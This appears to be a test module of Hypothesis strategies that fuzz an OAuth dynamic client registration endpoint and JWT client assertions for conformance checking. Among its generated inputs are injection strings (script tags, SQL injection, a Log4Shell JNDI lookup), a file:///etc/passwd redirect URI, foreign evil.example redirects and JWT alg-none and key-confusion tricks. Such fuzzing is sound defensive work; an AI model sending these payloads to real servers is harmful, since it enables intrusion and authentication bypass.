@@ -1,0 +1,596 @@
+"""Hypothesis strategies: RFC 7591 registration payloads and RFC 7523 assertion perturbations.
+
+Registration payloads (:func:`registration_payloads`) start from the template's request
+(``{"software_id": <template>}``, what the HAAPI SDK sends) and add up to four *mutations*, one
+per field group, over every RFC 7591 §2 member: ``redirect_uris``, ``token_endpoint_auth_method``,
+``grant_types``, ``response_types``, ``client_name``, ``client_uri``, ``logo_uri``, ``scope``,
+``contacts``, ``tos_uri``, ``policy_uri``, ``jwks_uri``, ``jwks``, ``software_id``,
+``software_version``, ``software_statement``, plus members the client must not choose
+(``client_id``, ``client_secret``, ...) and unknown extension members. A quarter of the payloads
+are not a JSON object at all (:class:`RawBody`: truncated, garbage, non-object JSON, lenient
+JSON dialects, wrong media types, deep nesting, invalid UTF-8).
+
+A strategy only says *what it did* (``Mutation.fault``: ``"outside-template"``, ``"type"``,
+``"syntax"`` ...); what the server must answer is decided by :mod:`conformance.fuzz.oracle`.
+Simple variants come first in every list, so shrinking ends on the plainest failing payload.
+
+Assertion perturbations (:func:`assertion_cases`) likewise describe a change to a valid client
+assertion (a claim offset, an ``aud`` variant, an ``alg`` trick, a broken signature ...);
+:mod:`conformance.fuzz.assertions` builds the request and the oracle's model judges it.
+"""
+
+from __future__ import annotations
+
+import json
+from dataclasses import dataclass
+from typing import Any, Iterable
+from urllib.parse import urlsplit, urlunsplit
+
+from cryptography.hazmat.primitives.asymmetric import ec
+from hypothesis import strategies as st
+
+from conformance.client.jose import OMIT, b64url, public_jwk, sign_jws
+
+# ---------------------------------------------------------------------------------- payloads
+
+#: Fault tags of a mutation (what was done; the oracle decides what the server must answer).
+FIELD_OK = "template"            # a value the template allows (restating or narrowing it)
+OUTSIDE = "outside-template"     # well-formed, but more than the template allows
+SYNTAX = "syntax"                # the value is not what RFC 7591 §2 / RFC 6749 §3.1.2 allow
+TYPE = "type"                    # wrong JSON type (including nested objects and arrays)
+NULL = "null"                    # JSON null
+ODD = "odd"                      # well-typed but unusual: huge, unicode, control characters
+CONFLICT = "conflict"            # members that contradict each other (jwks + jwks_uri, types)
+UNKNOWN = "unknown-field"        # an extension member the server does not know (MUST be ignored)
+SERVER_MANAGED = "server-managed"  # a member the server issues (client_id, client_secret, ...)
+OMITTED = "omitted"              # a member of the template's request removed
+
+#: Raw-body fault tags.
+NOT_JSON = "not-json"            # truncated or garbage bytes: no JSON parser can read it
+NOT_OBJECT = "not-object"        # JSON, but not an object (RFC 7591 §3.1 wants an object)
+LENIENT = "lenient-json"         # only a lenient parser reads it (NaN, comments, BOM, ...)
+MEDIA_TYPE = "media-type"        # a JSON body under another media type, or none
+ENCODING = "encoding"            # not UTF-8 (RFC 8259 §8.1)
+DEEP = "deep-nesting"            # very deeply nested JSON
+
+#: Members RFC 7591, RFC 7592, OpenID Connect registration, RFC 8705, RFC 9449 and Curity use;
+#: generated "unknown" members never take one of these names.
+KNOWN_MEMBERS = frozenset({
+    "redirect_uris", "token_endpoint_auth_method", "grant_types", "response_types", "client_name",
+    "client_uri", "logo_uri", "scope", "contacts", "tos_uri", "policy_uri", "jwks_uri", "jwks",
+    "software_id", "software_version", "software_statement", "client_id", "client_secret",
+    "client_id_issued_at", "client_secret_expires_at", "registration_access_token",
+    "registration_client_uri", "token_endpoint_auth_signing_alg", "application_type",
+    "sector_identifier_uri", "subject_type", "id_token_signed_response_alg", "default_max_age",
+    "require_auth_time", "initiate_login_uri", "request_uris", "post_logout_redirect_uris",
+    "tls_client_auth_subject_dn", "tls_client_certificate_bound_access_tokens",
+    "dpop_bound_access_tokens", "token_endpoint_auth_methods", "access_token_ttl",
+    "refresh_token_ttl", "require_proof_key", "status",
+})
+
+GRANT_TYPES = ("authorization_code", "implicit", "password", "client_credentials", "refresh_token",
+               "urn:ietf:params:oauth:grant-type:jwt-bearer", "urn:ietf:params:oauth:grant-type:device_code",
+               "urn:ietf:params:oauth:grant-type:token-exchange", "x-fuzz-grant")
+RESPONSE_TYPES = ("code", "token", "id_token", "code id_token", "none", "x-fuzz-response")
+AUTH_METHODS = ("client_secret_basic", "client_secret_post", "client_secret_jwt", "private_key_jwt",
+                "tls_client_auth", "self_signed_tls_client_auth", "none")
+OUTSIDE_SCOPES = ("openid", "dcr", "admin", "offline_access", "urn:se:curity:scopes:admin", "sköpe")
+
+
+@dataclass(frozen=True, eq=False)
+class Mutation:
+    """One change to the template's request: ``members`` set (``OMIT`` removes one)."""
+
+    group: str                       # at most one mutation per group in a payload
+    field: str                       # the RFC 7591 member judged (for error codes)
+    members: tuple[tuple[str, Any], ...]
+    fault: str
+    note: str
+
+    def __repr__(self) -> str:
+        shown = ", ".join(f"{k}={'<omitted>' if v is OMIT else _short(v)}" for k, v in self.members)
+        return f"<{self.note}: {shown}>"
+
+
+@dataclass(frozen=True, eq=False)
+class RawBody:
+    """A body that is not the template's JSON object, sent as is."""
+
+    content: bytes
+    content_type: str | None
+    fault: str
+    note: str
+
+    def __repr__(self) -> str:
+        return f"<{self.note}: Content-Type {self.content_type!r}, {_short(self.content)}>"
+
+
+@dataclass(frozen=True, eq=False)
+class Payload:
+    """One registration attempt: the template's request plus mutations, or a raw body."""
+
+    mutations: tuple[Mutation, ...] = ()
+    raw: RawBody | None = None
+
+    def metadata(self) -> dict[str, Any]:
+        """The members to add to ``{"software_id": <template>}`` (``OMIT`` removes one)."""
+        out: dict[str, Any] = {}
+        for mutation in self.mutations:
+            out.update(mutation.members)
+        return out
+
+    def describe(self) -> str:
+        if self.raw is not None:
+            return f"raw body ({self.raw.note}): Content-Type {self.raw.content_type!r}, {_short(self.raw.content, 300)}"
+        if not self.mutations:
+            return "the template's request, unchanged"
+        return "; ".join(f"{m.note} [{m.fault}]: " + ", ".join(
+            f"{k} = {'<omitted>' if v is OMIT else _short(v, 200)}" for k, v in m.members) for m in self.mutations)
+
+    def __repr__(self) -> str:
+        return f"Payload({self.describe()})"
+
+
+def _short(value: Any, limit: int = 80) -> str:
+    if isinstance(value, bytes):
+        text = repr(value)
+    else:
+        try:
+            text = json.dumps(value, ensure_ascii=True)
+        except (TypeError, ValueError):
+            text = repr(value)
+    return text if len(text) <= limit else f"{text[:limit]}… ({len(text)} chars)"
+
+
+def _m(group: str, field: str, value: Any, fault: str, note: str) -> Mutation:
+    return Mutation(group, field, ((field, value),), fault, note)
+
+
+# -- JSON values ----------------------------------------------------------------------------
+
+_SCALARS = (st.none() | st.booleans() | st.integers(-(10 ** 20), 10 ** 20)
+            | st.floats(allow_nan=False, allow_infinity=False) | st.text(max_size=12))
+JSON_VALUES = st.recursive(_SCALARS, lambda inner: st.lists(inner, max_size=3)
+                           | st.dictionaries(st.text(max_size=8), inner, max_size=3), max_leaves=8)
+NESTED = st.one_of(
+    st.dictionaries(st.text(max_size=8), JSON_VALUES, min_size=0, max_size=3),
+    st.lists(JSON_VALUES, min_size=1, max_size=3).filter(lambda xs: not all(isinstance(x, str) for x in xs)),
+)
+
+
+def _wrong_for_string(example: str) -> st.SearchStrategy[tuple[Any, str]]:
+    """Values of the wrong JSON type for a string member."""
+    return st.one_of(
+        st.just(([example], "an array instead of a string")),
+        st.just(({"value": example}, "an object instead of a string")),
+        st.integers(-(10 ** 20), 10 ** 20).map(lambda v: (v, "a number instead of a string")),
+        st.booleans().map(lambda v: (v, "a boolean instead of a string")),
+        NESTED.map(lambda v: (v, "a nested value instead of a string")),
+    )
+
+
+def _wrong_for_array(example: str) -> st.SearchStrategy[tuple[Any, str]]:
+    """Values of the wrong JSON type for an array-of-strings member."""
+    return st.one_of(
+        st.just((example, "a string instead of an array")),
+        st.just(([[example]], "an array of arrays")),
+        st.just(({"0": example}, "an object instead of an array")),
+        st.just(([example, 1], "an array holding a number")),
+        st.just(([None], "an array holding null")),
+        st.integers().map(lambda v: (v, "a number instead of an array")),
+        st.booleans().map(lambda v: (v, "a boolean instead of an array")),
+        NESTED.map(lambda v: (v if isinstance(v, dict) else [example, v], "a nested value in an array member")),
+    )
+
+
+def _typed(group: str, field: str, wrong: st.SearchStrategy[tuple[Any, str]]) -> st.SearchStrategy[Mutation]:
+    return st.one_of(
+        wrong.map(lambda pair: _m(group, field, pair[0], TYPE, f"{field}: {pair[1]}")),
+        st.just(_m(group, field, None, NULL, f"{field}: null")),
+    )
+
+
+def _nonempty_subsets(values: Iterable[str]) -> st.SearchStrategy[list[str]]:
+    values = list(values)
+    return st.lists(st.sampled_from(values), min_size=1, max_size=len(values), unique=True)
+
+
+HUGE_TEXT = st.builds(lambda unit, n: (unit * n)[:20_000], st.text(min_size=1, max_size=4),
+                      st.integers(min_value=512, max_value=8_000))
+ODD_TEXT = st.sampled_from([
+    "\u0000", "line\nbreak", "\u202eevil\u202c", "\ud800", "\udfff\ud800", "🙂" * 40, "\ufeffbom",
+    "<script>alert(1)</script>", "' OR '1'='1", "${jndi:ldap://x.example/a}", "%00%0d%0a", "\\u0000",
+])
+
+
+def _text_field(field: str) -> st.SearchStrategy[Mutation]:
+    return st.one_of(
+        st.text(min_size=1, max_size=40).map(lambda v: _m(field, field, v, FIELD_OK, f"{field}: text")),
+        st.text(max_size=40).map(lambda v: _m(field, field, v, ODD, f"{field}: unicode text")),
+        ODD_TEXT.map(lambda v: _m(field, field, v, ODD, f"{field}: unusual characters")),
+        HUGE_TEXT.map(lambda v: _m(field, field, v, ODD, f"{field}: a huge string")),
+        _typed(field, field, _wrong_for_string("x")),
+    )
+
+
+def _uri_field(field: str) -> st.SearchStrategy[Mutation]:
+    bad = st.sampled_from(["not a uri", "/relative/page", "javascript:alert(1)", "http://app.example/page",
+                           "https://app.example/page#frag", "", "https://[::1", "data:text/html,<b>x</b>"])
+    return st.one_of(
+        st.from_regex(r"[a-z0-9/_-]{0,20}", fullmatch=True).map(
+            lambda path: _m(field, field, f"https://app.example/{path}", FIELD_OK, f"{field}: an https URL")),
+        bad.map(lambda v: _m(field, field, v, SYNTAX, f"{field}: not an https URL")),
+        HUGE_TEXT.map(lambda v: _m(field, field, "https://app.example/" + v, ODD, f"{field}: a huge URL")),
+        _typed(field, field, _wrong_for_string("https://app.example/")),
+    )
+
+
+def _contacts() -> st.SearchStrategy[Mutation]:
+    field = "contacts"
+    return st.one_of(
+        st.lists(st.emails(), min_size=1, max_size=3).map(lambda v: _m(field, field, v, FIELD_OK, "contacts: e-mail addresses")),
+        st.just(_m(field, field, [], ODD, "contacts: empty")),
+        st.lists(st.text(max_size=30), min_size=1, max_size=4).map(lambda v: _m(field, field, v, ODD, "contacts: any strings")),
+        st.integers(200, 600).map(lambda n: _m(field, field, [f"ops{i}@app.example" for i in range(n)], ODD,
+                                               "contacts: hundreds of addresses")),
+        _typed(field, field, _wrong_for_array("ops@app.example")),
+    )
+
+
+def _redirect_uris(template) -> st.SearchStrategy[Mutation]:
+    field = "redirect_uris"
+    allowed = list(template.redirect_uris or ())
+    first = allowed[0] if allowed else "https://app.example/callback"
+    parts = urlsplit(first)
+    host_path = urlunsplit(("", parts.netloc or "app.example", parts.path or "/callback", "", ""))
+    declared = template.redirect_uris is not None
+    outside = OUTSIDE if declared else ODD
+    bad = [
+        ("/callback", SYNTAX, "a relative redirect URI"),
+        ("callback", SYNTAX, "a relative redirect URI without a slash"),
+        ("//app.example/callback", SYNTAX, "a scheme-relative redirect URI"),
+        (first + "#fragment", SYNTAX, "a redirect URI with a fragment"),
+        (first + "#", SYNTAX, "a redirect URI with an empty fragment"),
+        ("http:" + host_path, outside, "a non-https redirect URI"),
+        ("http://localhost:8080/callback", outside, "a plain-http loopback redirect URI"),
+        ("https://evil.example/callback", outside, "a foreign redirect URI"),
+        (first.rstrip("/") + "/../evil", outside, "a redirect URI with a path traversal"),
+        (first + ("&" if "?" in first else "?") + "next=https://evil.example", outside,
+         "a redirect URI with a query added"),
+        ("https://user:secret@" + host_path.lstrip("/"), outside, "a redirect URI with userinfo"),
+        ("com.evil.app:/callback", outside, "a custom-scheme redirect URI of another app"),
+        ("javascript:alert(1)", SYNTAX, "a javascript: redirect URI"),
+        ("data:text/html,<script>alert(1)</script>", SYNTAX, "a data: redirect URI"),
+        ("file:///etc/passwd", SYNTAX, "a file: redirect URI"),
+        ("", SYNTAX, "an empty redirect URI"),
+        (" " + first, SYNTAX, "a redirect URI with leading whitespace"),
+        ("https://exämple.test/callback", outside, "a redirect URI with a unicode host"),
+        ("https://[::1/callback", SYNTAX, "a malformed redirect URI"),
+        ("https://app.example/\u0000", SYNTAX, "a redirect URI with a NUL character"),
+    ]
+    bad_mutations = st.tuples(st.sampled_from(bad), st.lists(st.sampled_from(allowed or [first]), max_size=2)).map(
+        lambda pair: _m(field, field, [*dict.fromkeys([*pair[1], pair[0][0]])], pair[0][1], pair[0][2]))
+    choices = [bad_mutations]
+    if allowed:
+        choices.insert(0, _nonempty_subsets(allowed).map(lambda v: _m(field, field, v, FIELD_OK, "redirect URIs of the template")))
+    choices += [
+        HUGE_TEXT.map(lambda v: _m(field, field, [first + "?" + v], outside, "a huge redirect URI")),
+        st.just(_m(field, field, [], ODD, "no redirect URI")),
+        _typed(field, field, _wrong_for_array(first)),
+    ]
+    return st.one_of(*choices)
+
+
+def _types(template) -> st.SearchStrategy[Mutation]:
+    """grant_types and response_types, alone or together (RFC 7591 §2.1 pairs them)."""
+    grants = list(template.grant_types or ())
+    responses = list(template.response_types or ())
+
+    def judged(g: list[str] | None, r: list[str] | None, note: str) -> Mutation:
+        members, inside = [], True
+        if g is not None:
+            members.append(("grant_types", g))
+            inside &= bool(grants) and set(g) <= set(grants)
+        if r is not None:
+            members.append(("response_types", r))
+            inside &= bool(responses) and set(r) <= set(responses)
+        declared = (g is None or template.grant_types is not None) and (r is None or template.response_types is not None)
+        fault = FIELD_OK if inside else (OUTSIDE if declared else ODD)
+        field = "grant_types" if g is not None else "response_types"
+        return Mutation("types", field, tuple(members), fault, note)
+
+    outside_g = [g for g in GRANT_TYPES if g not in grants] or ["x-fuzz-grant"]
+    outside_r = [r for r in RESPONSE_TYPES if r not in responses] or ["x-fuzz-response"]
+    contradictions = [  # RFC 7591 §2.1: the grant type each response type needs, broken
+        (["implicit"], ["code"]), (["authorization_code"], ["token"]), (["client_credentials"], ["token"]),
+        (["authorization_code"], []), ([], ["code"]), (["password"], ["id_token"]), (["implicit"], ["none"]),
+    ]
+    choices = []
+    if grants:
+        choices.append(_nonempty_subsets(grants).map(lambda g: judged(g, None, "grant types of the template")))
+    if responses:
+        choices.append(_nonempty_subsets(responses).map(lambda r: judged(None, r, "response types of the template")))
+    choices += [
+        st.tuples(st.sampled_from(outside_g), st.lists(st.sampled_from(grants or ["client_credentials"]), max_size=1)).map(
+            lambda p: judged([*dict.fromkeys([*p[1], p[0]])], None, f"grant type {p[0]!r} beyond the template")),
+        st.sampled_from(outside_r).map(lambda r: judged(None, [r], f"response type {r!r} beyond the template")),
+        st.sampled_from(contradictions).map(lambda p: judged(p[0], p[1], "grant and response types that contradict each other")),
+        st.just(judged([], None, "no grant type")),
+        st.just(judged(None, [], "no response type")),
+        _typed("types", "grant_types", _wrong_for_array("client_credentials")),
+        _typed("types", "response_types", _wrong_for_array("code")),
+    ]
+    return st.one_of(*choices)
+
+
+def _scope(template) -> st.SearchStrategy[Mutation]:
+    field = "scope"
+    allowed = (template.scope or "").split()
+    declared = template.scope is not None
+    outside = OUTSIDE if declared else ODD
+    choices = []
+    if allowed:
+        choices += [
+            st.just(_m(field, field, template.scope, FIELD_OK, "the template's scope")),
+            _nonempty_subsets(allowed).map(lambda s: _m(field, field, " ".join(s), FIELD_OK, "scopes of the template")),
+            _nonempty_subsets(allowed).map(lambda s: _m(field, field, " ".join(s + s), ODD, "repeated scopes of the template")),
+            st.just(_m(field, field, "  " + template.scope + "  ", ODD, "the template's scope with extra spaces")),
+        ]
+    choices += [
+        st.tuples(st.sampled_from(OUTSIDE_SCOPES), st.booleans()).map(
+            lambda p: _m(field, field, " ".join([*(allowed if p[1] else []), p[0]]), outside,
+                         f"scope {p[0]!r} beyond the template")),
+        st.from_regex(r"[a-z][a-z0-9:._-]{0,24}", fullmatch=True).filter(lambda s: s not in allowed).map(
+            lambda s: _m(field, field, " ".join([*allowed, s]), outside, "a generated scope beyond the template")),
+        st.sampled_from(['a"b', "a\\b", "\u0000", "tab\tscope"]).map(
+            lambda s: _m(field, field, s, SYNTAX, "a scope token with characters RFC 6749 §3.3 forbids")),
+        st.just(_m(field, field, "", ODD, "an empty scope")),
+        HUGE_TEXT.map(lambda v: _m(field, field, v, outside, "a huge scope")),
+        _typed(field, field, _wrong_for_string(template.scope or "openid")),
+    ]
+    return st.one_of(*choices)
+
+
+def _auth_method(template) -> st.SearchStrategy[Mutation]:
+    field = "token_endpoint_auth_method"
+    own = template.token_endpoint_auth_method
+    others = [m for m in AUTH_METHODS if m != own]
+    return st.one_of(
+        st.just(_m(field, field, own, FIELD_OK, "the template's authentication method")),
+        st.sampled_from(others).map(lambda v: _m(field, field, v, OUTSIDE, f"authentication method {v!r} beyond the template")),
+        st.sampled_from(["x-fuzz-auth", "", own.upper(), own + " "]).map(
+            lambda v: _m(field, field, v, SYNTAX, "an unknown authentication method")),
+        _typed(field, field, _wrong_for_string(own)),
+    )
+
+
+_FUZZ_KEY = ec.generate_private_key(ec.SECP256R1())
+PUBLIC_JWK = public_jwk(_FUZZ_KEY, kid="fuzz-key", alg="ES256")
+PRIVATE_JWK = {**PUBLIC_JWK, "d": b64url(_FUZZ_KEY.private_numbers().private_value.to_bytes(32, "big"))}
+
+
+def _keys(template) -> st.SearchStrategy[Mutation]:
+    """jwks and jwks_uri. For a private_key_jwt template the session registers the device key as
+    jwks itself, so only jwks_uri is added (making the request carry both)."""
+    uri = "https://app.example/jwks.json"
+    both = Mutation("keys", "jwks", (("jwks", {"keys": [PUBLIC_JWK]}), ("jwks_uri", uri)), CONFLICT,
+                    "jwks together with jwks_uri (RFC 7591 §2: MUST NOT)")
+    if template.token_endpoint_auth_method == "private_key_jwt":
+        return st.just(Mutation("keys", "jwks", (("jwks_uri", uri),), CONFLICT,
+                                "jwks_uri added to the device's jwks (RFC 7591 §2: MUST NOT)"))
+    return st.one_of(
+        st.just(_m("keys", "jwks", {"keys": [PUBLIC_JWK]}, ODD, "a public jwks for a secret-based client")),
+        st.just(_m("keys", "jwks_uri", uri, ODD, "a jwks_uri for a secret-based client")),
+        st.just(both),
+        st.just(_m("keys", "jwks", {"keys": [PRIVATE_JWK]}, SYNTAX, "a jwks holding a private key")),
+        st.sampled_from([{"keys": []}, {"keys": "x"}, {"keys": [{"kty": "EC"}]}, {"keys": [{"kty": "oct", "k": "AAAA"}]},
+                         {"keys": [PUBLIC_JWK] * 50}]).map(lambda v: _m("keys", "jwks", v, SYNTAX, "a malformed jwks")),
+        st.sampled_from(["http://app.example/jwks.json", "/jwks.json", "", "javascript:alert(1)"]).map(
+            lambda v: _m("keys", "jwks_uri", v, SYNTAX, "a jwks_uri that is not an https URL")),
+        _typed("keys", "jwks", st.one_of(st.just(([PUBLIC_JWK], "an array instead of a JWK Set")),
+                                         st.just(("keys", "a string instead of a JWK Set")),
+                                         st.integers().map(lambda v: (v, "a number instead of a JWK Set")))),
+        _typed("keys", "jwks_uri", _wrong_for_string(uri)),
+    )
+
+
+def _software_id(template) -> st.SearchStrategy[Mutation]:
+    field = "software_id"
+    own = template.software_id
+    unknown = [("no-such-template", "an unknown software_id"), (own + " ", "the software_id with a trailing space"),
+               (own.upper() if own.upper() != own else own + "X", "the software_id in another case"),
+               ("", "an empty software_id")]
+    if template.unauthorized_software_id:
+        unknown.append((template.unauthorized_software_id, "a template that does not name this main client"))
+    return st.one_of(
+        st.just(Mutation(field, field, ((field, OMIT),), OMITTED, "no software_id")),
+        st.sampled_from(unknown).map(lambda p: _m(field, field, p[0], OUTSIDE, p[1])),
+        _typed(field, field, _wrong_for_string(own)),
+    )
+
+
+def _software_statement() -> st.SearchStrategy[Mutation]:
+    field = "software_statement"
+    unsigned = b64url(b'{"alg":"none"}') + "." + b64url(json.dumps({"software_id": "evil"}).encode()) + "."
+    signed = sign_jws({"alg": "ES256", "typ": "JWT"}, {"software_id": "evil", "iss": "https://evil.example"},
+                      _FUZZ_KEY, "ES256")
+    return st.one_of(
+        st.sampled_from([("garbage", "a garbage software_statement"), ("a.b.c", "a software_statement that is not base64url JSON"),
+                         (unsigned, "an unsigned software_statement (alg none)"),
+                         (signed, "a software_statement signed by an unknown key"),
+                         ("", "an empty software_statement")]).map(lambda p: _m(field, field, p[0], SYNTAX, p[1])),
+        _typed(field, field, _wrong_for_string(unsigned)),
+    )
+
+
+def _server_managed() -> st.SearchStrategy[Mutation]:
+    values = [("client_id", "dcr-fuzz-chosen-client-id"), ("client_secret", "dcr-fuzz-chosen-client-secret"),
+              ("registration_access_token", "dcr-fuzz-chosen-registration-token"),
+              ("registration_client_uri", "https://evil.example/clients/x"), ("client_id_issued_at", 0),
+              ("client_secret_expires_at", 1)]
+    return st.sampled_from(values).map(lambda p: Mutation(
+        "server-managed", p[0], ((p[0], p[1]),), SERVER_MANAGED, f"{p[0]} chosen by the client"))
+
+
+_NEAR_MISS = ["redirect_uri", "scopes", "grant_type", "response_type", "clientName", "Scope", "jwk"]
+
+
+def _unknown() -> st.SearchStrategy[Mutation]:
+    names = st.one_of(
+        st.from_regex(r"x_fuzz_[a-z0-9_]{0,10}", fullmatch=True),
+        st.text(min_size=1, max_size=12).map(lambda s: "ext-" + s),
+        st.sampled_from(_NEAR_MISS),
+    ).filter(lambda n: n not in KNOWN_MEMBERS)
+    evil = st.sampled_from(["https://evil.example/cb", "dcr admin", "password", ["https://evil.example/cb"]])
+    return st.tuples(names, st.one_of(JSON_VALUES, evil)).map(lambda p: Mutation(
+        "unknown:" + p[0], p[0], ((p[0], p[1]),), UNKNOWN, f"unknown member {p[0]!r}"))
+
+
+def mutations(template) -> st.SearchStrategy[Mutation]:
+    """One mutation of any group; the template-enforced groups are drawn three times as often."""
+    core = [_redirect_uris(template), _types(template), _scope(template), _auth_method(template)]
+    others = [_software_id(template), _software_statement(), _keys(template), _text_field("client_name"),
+              _text_field("software_version"), _uri_field("client_uri"), _uri_field("logo_uri"),
+              _uri_field("tos_uri"), _uri_field("policy_uri"), _contacts(), _server_managed(), _unknown(), _unknown()]
+    return st.one_of(*core, *others, *core, *core)
+
+
+def raw_bodies(template) -> st.SearchStrategy[RawBody]:
+    base = json.dumps({"software_id": template.software_id})
+    sid = template.software_id
+    ctype = "application/json"
+
+    def not_json_object(data: bytes) -> bool:
+        try:
+            return not isinstance(json.loads(data), dict)
+        except (ValueError, UnicodeDecodeError, RecursionError):
+            return True
+
+    lenient = [
+        ("{'software_id': '%s'}" % sid, "single quotes (JSON5)"),
+        ('{"software_id": "%s",}' % sid, "a trailing comma"),
+        ('{software_id: "%s"}' % sid, "an unquoted member name"),
+        ('{"software_id": "%s"} trailing' % sid, "text after the object"),
+        ('{"software_id": "%s" /* comment */}' % sid, "a comment"),
+        ('{"software_id": "%s", "x_fuzz": NaN}' % sid, "NaN"),
+        ('{"software_id": "%s", "x_fuzz": -Infinity}' % sid, "-Infinity"),
+        ('{"software_id": "%s", "x_fuzz": 01}' % sid, "a number with a leading zero"),
+        ('\ufeff' + base, "a byte order mark"),
+        ('{"software_id": "%s", "software_id": "no-such-template"}' % sid, "a duplicated member"),
+    ]
+    return st.one_of(
+        st.integers(0, len(base) - 1).map(lambda k: RawBody(base[:k].encode(), ctype, NOT_JSON, "truncated JSON")),
+        st.binary(min_size=1, max_size=48).filter(not_json_object).map(
+            lambda b: RawBody(b, ctype, NOT_JSON, "garbage bytes")),
+        st.sampled_from(["[]", "null", "1", '"%s"' % sid, "true", '[{"software_id": "%s"}]' % sid]).map(
+            lambda b: RawBody(b.encode(), ctype, NOT_OBJECT, "JSON that is not an object")),
+        st.sampled_from(lenient).map(lambda p: RawBody(p[0].encode("utf-8"), ctype, LENIENT, f"not JSON: {p[1]}")),
+        st.integers(200, 20_000).map(lambda n: RawBody(
+            ('{"software_id": "%s", "x_fuzz": ' % sid + "[" * n + "]" * n + "}").encode(), ctype, DEEP,
+            f"an unknown member nested {n} levels deep")),
+        st.just(RawBody(b'{"software_id": "' + sid.encode() + b'", "client_name": "\xff\xfe\xc3"}', ctype, ENCODING,
+                        "invalid UTF-8")),
+        st.just(RawBody(base.encode("utf-16"), ctype, ENCODING, "UTF-16")),
+        st.sampled_from([("text/plain", base), (None, base), ("application/x-www-form-urlencoded", f"software_id={sid}"),
+                         ("application/json; charset=utf-8", base), ("Application/JSON", base),
+                         ("application/jsonx", base), ("multipart/form-data; boundary=x", base)]).map(
+            lambda p: RawBody(p[1].encode(), p[0], MEDIA_TYPE, f"media type {p[0]!r}")),
+    )
+
+
+def registration_payloads(template) -> st.SearchStrategy[Payload]:
+    """Registration attempts on top of the template's request; one in four is not a JSON object."""
+    structured = st.lists(mutations(template), max_size=4, unique_by=lambda m: m.group).map(
+        lambda ms: Payload(tuple(ms)))
+    raw = raw_bodies(template).map(lambda r: Payload(raw=r))
+    return st.one_of(structured, structured, structured, raw)
+
+
+# ---------------------------------------------------------------------------- assertions
+
+
+@dataclass(frozen=True)
+class Perturbation:
+    """One change to a valid client assertion or its request (judged by the oracle's model)."""
+
+    target: str          # exp iat nbf aud iss sub jti alg kid typ signature header claim client_id
+    variant: str         #   assertion_type form shape replay
+    value: Any = None    # an offset in seconds, or a literal value
+
+    def __repr__(self) -> str:
+        return f"<{self.target} {self.variant}{'' if self.value is None else ' ' + _short(self.value, 40)}>"
+
+
+@dataclass(frozen=True)
+class AssertionCase:
+    """A main client (by label) and the perturbations of its assertion."""
+
+    label: str
+    perturbations: tuple[Perturbation, ...] = ()
+
+    def describe(self) -> str:
+        changes = ", ".join(map(repr, self.perturbations)) or "none (a valid assertion)"
+        return f"main client {self.label!r}, perturbations: {changes}"
+
+
+_NON_NUMBERS = st.sampled_from(["1700000000", True, None, {"t": 1}, [1]])
+
+
+def _time_claim(name: str, ranges: list[tuple[int, int]]) -> st.SearchStrategy[Perturbation]:
+    return st.one_of(
+        st.just(Perturbation(name, "omit")),
+        *[st.integers(lo, hi).map(lambda n: Perturbation(name, "offset", n)) for lo, hi in ranges],
+        st.floats(min_value=ranges[0][0], max_value=ranges[0][1]).map(lambda f: Perturbation(name, "offset", f)),
+        _NON_NUMBERS.map(lambda v: Perturbation(name, "value", v)),
+        st.sampled_from([1e300, -1.0, 0]).map(lambda v: Perturbation(name, "absolute", v)),
+    )
+
+
+def perturbations(method: str, alg: str) -> st.SearchStrategy[Perturbation]:
+    """Every kind of change to one assertion of a ``method`` client signing with ``alg``."""
+    family = {"RS256": "PS256", "PS256": "RS256", "HS256": "HS512"}.get(alg)
+    algs = ["none", "header_mismatch", "unsupported", "lowercase"]
+    if method == "private_key_jwt":
+        algs.append("hmac_with_public_key")
+    if family:
+        algs.append("same_family")
+    signatures = ["broken", "unknown_key", "truncated", "empty"]
+    return st.one_of(
+        _time_claim("exp", [(10, 300), (-10 ** 8, -600), (-599, 9), (301, 10 ** 8)]),
+        _time_claim("iat", [(-60, 0), (-10 ** 7, -61), (1, 10 ** 6)]),
+        _time_claim("nbf", [(-10 ** 6, 0), (1, 599), (600, 10 ** 7)]),
+        st.sampled_from(["token_endpoint", "issuer", "list_token_endpoint", "list_with_other", "other_url",
+                         "trailing_slash", "uppercase", "empty", "omit", "number", "empty_list", "list_other"]).map(
+            lambda v: Perturbation("aud", v)),
+        st.sampled_from(["other_client", "unknown", "omit", "number"]).map(lambda v: Perturbation("iss", v)),
+        st.sampled_from(["other_client", "unknown", "omit", "number"]).map(lambda v: Perturbation("sub", v)),
+        st.sampled_from(["other_client", "unknown"]).map(lambda v: Perturbation("iss_sub", v)),
+        st.sampled_from(["omit", "long", "number", "empty"]).map(lambda v: Perturbation("jti", v)),
+        st.sampled_from(algs).map(lambda v: Perturbation("alg", v)),
+        st.sampled_from(["omit", "unknown"]).map(lambda v: Perturbation("kid", v)),
+        st.sampled_from(["omit", "JWT", "jwt", "dpop+jwt", "at+jwt", "x-fuzz"]).map(lambda v: Perturbation("typ", v)),
+        st.sampled_from(signatures).map(lambda v: Perturbation("signature", v)),
+        st.tuples(st.from_regex(r"x_fuzz_[a-z]{1,8}", fullmatch=True), JSON_VALUES).map(
+            lambda p: Perturbation("header", p[0], p[1])),
+        st.tuples(st.from_regex(r"x_fuzz_[a-z]{1,8}", fullmatch=True), JSON_VALUES).map(
+            lambda p: Perturbation("claim", p[0], p[1])),
+        st.sampled_from(["omit", "other_client"]).map(lambda v: Perturbation("client_id", v)),
+        st.sampled_from(["omit", "saml2", "garbage"]).map(lambda v: Perturbation("assertion_type", v)),
+        st.sampled_from(["two_assertions", "basic_too"]).map(lambda v: Perturbation("form", v)),
+        st.sampled_from(["garbage", "two_parts", "five_parts"]).map(lambda v: Perturbation("shape", v)),
+        st.just(Perturbation("replay", "twice")),
+    )
+
+
+def assertion_cases(clients: dict[str, Any]) -> st.SearchStrategy[AssertionCase]:
+    """An assertion of one of ``clients`` (label -> ClientConfig) with up to three perturbations."""
+    labels = sorted(clients)
+
+    def for_label(label: str) -> st.SearchStrategy[AssertionCase]:
+        client = clients[label]
+        alg = client.alg or ("HS256" if client.auth_method == "client_secret_jwt" else "ES256")
+        return st.lists(perturbations(client.auth_method, alg), max_size=3,
+                        unique_by=lambda p: "iss" if p.target in ("iss", "sub", "iss_sub") else p.target).map(
+            lambda ps: AssertionCase(label, tuple(ps)))
+
+    return st.sampled_from(labels).flatmap(for_label)
